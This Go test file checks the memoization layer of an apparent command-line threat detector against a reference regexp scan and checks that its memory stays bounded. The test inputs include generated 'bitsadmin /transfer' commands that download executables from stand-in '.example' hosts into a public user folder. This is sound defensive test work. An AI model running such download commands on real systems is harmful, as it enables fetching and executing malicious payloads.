package detect

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// A memo answers exactly what a scan would, whatever it holds: events are
// scored by a detector whose memo is tiny (so slots are taken over and the
// arena is emptied again and again) and by the regexp2 reference, over
// lines that repeat, collide and exceed what the memo keeps.
func TestMemoAnswersAsTheScan(t *testing.T) {
	ref := mustReference(t)
	rng := rand.New(rand.NewPCG(1, 1197))
	var lines []string
	for _, e := range typicalEvents {
		lines = append(lines, string(e.commandLine[0]))
	}
	lines = append(lines, adversarialValues...)
	for i := range 200 {
		lines = append(lines, randomValue(rng))
		lines = append(lines, fmt.Sprintf("bitsadmin /transfer j%d http://x%d.example/a.exe C:\\Users\\Public\\a%d.exe", i, i, i))
	}
	lines = append(lines, strings.Repeat(`http://a.microsoft.com/`, 100)+" http://b", strings.Repeat("é/RESET ", 50))
	for _, sizes := range [][2]int{{1, 64}, {3, 256}, {16, 4096}, {memoSlots, memoArenaSize}} {
		d := newSPL(sizes[0], sizes[1])
		for range 3000 {
			cl := lines[rng.IntN(len(lines))]
			e := splEvent{commandLine: one(cl), image: one(`C:\Windows\System32\bitsadmin.exe`)}
			if rng.IntN(4) == 0 {
				e.commandLine = multi(cl, lines[rng.IntN(len(lines))])
			}
			assertSameAsReference(t, d, ref, e)
			if t.Failed() {
				t.Fatalf("memo of %d slots, %d bytes", sizes[0], sizes[1])
			}
		}
	}
}

// The memo's memory is fixed: the arena never grows past its size, and a
// line too long to keep is not kept.
func TestMemoMemoryIsFixed(t *testing.T) {
	m := newLineMemo(8, 1024)
	for i := range 1000 {
		line := []byte(fmt.Sprintf("line %d %s", i, strings.Repeat("x", i%50)))
		_, hash, _ := m.lookup(line)
		m.remember(line, hash, flagHasReset)
		if _, _, ok := m.lookup(line); ok {
			t.Fatalf("line %d kept the first time it was seen", i)
		}
		m.remember(line, hash, flagHasReset) // it comes back
		if cap(m.arena) != 1024 || len(m.arena) > 1024 {
			t.Fatalf("arena len %d cap %d, want at most 1024 in a fixed buffer", len(m.arena), cap(m.arena))
		}
		if f, _, ok := m.lookup(line); !ok || f != flagHasReset {
			t.Fatalf("line %d not remembered right after remember (flags %v, ok %v)", i, f, ok)
		}
	}
	long := []byte(strings.Repeat("y", 1024/16+1))
	_, hash, _ := m.lookup(long)
	m.remember(long, hash, flagHasReset)
	m.remember(long, hash, flagHasReset)
	if _, _, ok := m.lookup(long); ok {
		t.Error("a line over a sixteenth of the arena was kept")
	}
}
